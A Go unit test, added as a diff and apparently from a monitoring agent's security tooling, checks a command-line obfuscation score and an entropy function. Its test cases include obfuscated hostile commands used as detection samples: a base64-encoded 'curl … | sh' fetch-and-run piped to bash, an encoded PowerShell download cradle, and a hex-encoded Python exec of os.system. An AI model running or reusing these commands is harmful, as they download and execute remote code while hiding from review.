@@ -0,0 +1,79 @@
+// Unless explicitly stated otherwise all files in this repository are licensed
+// under the Apache License Version 2.0.
+// This product includes software developed at Datadog (https://www.datadoghq.com/).
+// Copyright 2016-present Datadog, Inc.
+
+// Package utils holds utils related files
+package utils
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestCmdLineObfuscationScore(t *testing.T) {
+	tests := []struct {
+		name  string
+		argv0 string
+		argv  []string
+		min   int
+		max   int
+	}{
+		{
+			name:  "plain",
+			argv0: "ls",
+			argv:  []string{"-la", "/var/lib/docker/containers"},
+			max:   0,
+		},
+		{
+			name:  "long-path",
+			argv0: "/usr/bin/python3",
+			argv:  []string{"/opt/datadog-agent/embedded/lib/python3.11/site-packages/datadog_checks/base/checks.py"},
+			max:   0,
+		},
+		{
+			name:  "powershell",
+			argv0: "pwsh",
+			argv:  []string{"-NoProfile", "-enc", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"},
+			min:   base64TokenScore + decoderScore,
+			max:   MaxCmdLineObfuscationScore,
+		},
+		{
+			name:  "bash",
+			argv0: "bash",
+			argv:  []string{"-c", "echo Y3VybCBodHRwOi8vMTAuMC4wLjEvYSB8IHNo | base64 -d | bash"},
+			min:   base64TokenScore + decoderScore,
+			max:   MaxCmdLineObfuscationScore,
+		},
+		{
+			name:  "hex",
+			argv0: "python3",
+			argv:  []string{"-c", "import binascii; exec(binascii.unhexlify('696d706f7274206f733b206f732e73797374656d28276964272900'))"},
+			min:   hexTokenScore + decoderScore,
+			max:   MaxCmdLineObfuscationScore,
+		},
+		{
+			name:  "huge",
+			argv0: "sh",
+			argv:  []string{strings.Repeat("a ", 3000)},
+			min:   hugeCmdLineScore,
+			max:   hugeCmdLineScore,
+		},
+	}
+
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			score := CmdLineObfuscationScore(test.argv0, test.argv)
+			assert.GreaterOrEqual(t, score, test.min)
+			assert.LessOrEqual(t, score, test.max)
+		})
+	}
+}
+
+func TestShannonEntropy(t *testing.T) {
+	assert.Equal(t, float64(0), ShannonEntropy(""))
+	assert.Equal(t, float64(0), ShannonEntropy("aaaa"))
+	assert.Equal(t, float64(2), ShannonEntropy("abcd"))
+}